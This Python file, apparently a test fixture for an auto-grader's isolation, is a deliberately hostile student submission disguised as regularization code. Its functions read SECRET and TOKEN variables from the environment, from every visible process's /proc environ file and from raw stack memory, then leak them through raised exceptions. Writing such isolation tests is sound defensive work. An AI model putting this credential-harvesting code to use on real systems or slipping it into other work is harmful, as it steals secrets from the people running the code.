"""Hostile submission: looks for the instructor's secrets in every environment it can read, and reports them.

l1_reg raises a message holding every variable whose name or value mentions SECRET or TOKEN, found in
os.environ, in /proc/self/environ and /proc/<pid>/environ of every process it can see, and in the memory
after the interpreter's own argv strings, where the kernel put the environment the first process of the
chain was started with: a forked child inherits that memory whatever its os.environ says. It always
names how many variables it read, so the test knows it ran. A secret set for the instructor's
`grade batch` must appear in no output.
"""

import ctypes
import os

import torch.nn as nn

WANTED = ("SECRET", "TOKEN")
PAGE = 4096


def _inherited_memory():
    """Read the pages from argv[0] to the top of the stack, where the environment strings follow it.

    Each page goes through a pipe: write() fails with EFAULT past the stack instead of crashing.
    """
    libc = ctypes.CDLL(None, use_errno=True)
    start = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    address = start - start % PAGE
    read_end, write_end = os.pipe()
    for _ in range(64):
        if libc.write(write_end, ctypes.c_void_p(address), PAGE) != PAGE:
            break
        yield os.read(read_end, PAGE)
        address += PAGE


def _blocks():
    yield "os.environ", "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    try:
        yield "memory", b"".join(_inherited_memory())
    except (OSError, ValueError, AttributeError):
        pass
    try:
        pids = [entry for entry in os.listdir("/proc") if entry.isdigit()]
    except OSError:
        pids = []
    for pid in ["self", *pids]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                yield f"/proc/{pid}/environ", handle.read()
        except OSError:
            continue


def l1_reg(model):
    read, found = 0, []
    for where, block in _blocks():
        for variable in block.decode("utf-8", "replace").split("\0"):
            read += 1
            if any(word in variable.upper() for word in WANTED):
                found.append(f"{where}: {variable}")
    raise ValueError(f"ENVIRONMENT PROBE read {read} variables; found {found}")


def l2_reg(model):
    return os.environ.copy()


def dropout(x, p, training=True):
    with open("/proc/self/environ", "rb") as handle:
        raise ValueError(handle.read().decode("utf-8", "replace"))


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        raise NotImplementedError


def regularized_loss(output, target, model, criterion, lambda1=0.0, lambda2=0.0):
    raise NotImplementedError
